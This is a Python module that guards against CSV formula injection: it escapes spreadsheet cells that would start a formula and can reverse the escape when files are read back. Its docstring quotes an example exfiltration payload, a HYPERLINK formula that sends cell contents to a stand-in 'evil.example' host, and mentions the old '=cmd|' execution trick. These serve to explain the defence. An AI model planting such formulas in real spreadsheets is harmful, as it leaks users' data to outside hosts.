"""CSV that is safe to open in a spreadsheet: one helper for every CSV detente writes.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab
or a carriage return) as a formula: ``=HYPERLINK("https://evil.example?"&A1, "click")``
sends data away, ``=cmd|...`` once ran programs. Every text cell that would start a formula
gets a leading apostrophe, which spreadsheets show as text and do not display. Numbers are
written as numbers (``-1`` stays a vote).

The escape is reversible: :func:`restore_cell` gives back the exact text, so files that
detente writes and reads again (the Polis export) make a faithful round trip. Text that
already starts with an apostrophe followed by something escaped is escaped once more, so no
text is ever changed by a write and a read.

This module imports nothing of detente and may be used by every package, the consensus engine
included.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

__all__ = ["FORMULA_STARTS", "SafeDictWriter", "SafeWriter", "restore_cell", "safe_cell"]

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _needs_escape(text: str) -> bool:
    while text.startswith("'"):
        text = text[1:]
    return text.startswith(FORMULA_STARTS)


def safe_cell(value: object) -> object:
    """``value`` as a spreadsheet shows it without running it: text that would start a
    formula gets a leading ``'``; anything that is not text is returned unchanged."""
    if isinstance(value, str) and _needs_escape(value):
        return "'" + value
    return value


def restore_cell(text: str) -> str:
    """The text that :func:`safe_cell` was given (the inverse, for reading files back)."""
    if text.startswith("'") and _needs_escape(text[1:]):
        return text[1:]
    return text


class SafeWriter:
    """A :func:`csv.writer` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """A :class:`csv.DictWriter` whose every cell (header included) goes through
    :func:`safe_cell`."""

    def __init__(self, handle: IO[str], fieldnames: Sequence[str], **options: Any) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = csv.DictWriter(handle, fieldnames=self.fieldnames, **options)

    def writeheader(self) -> None:
        self._writer.writerow({name: safe_cell(name) for name in self.fieldnames})

    def writerow(self, row: Mapping[str, object]) -> None:
        self._writer.writerow({key: safe_cell(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, object]]) -> None:
        for row in rows:
            self.writerow(row)
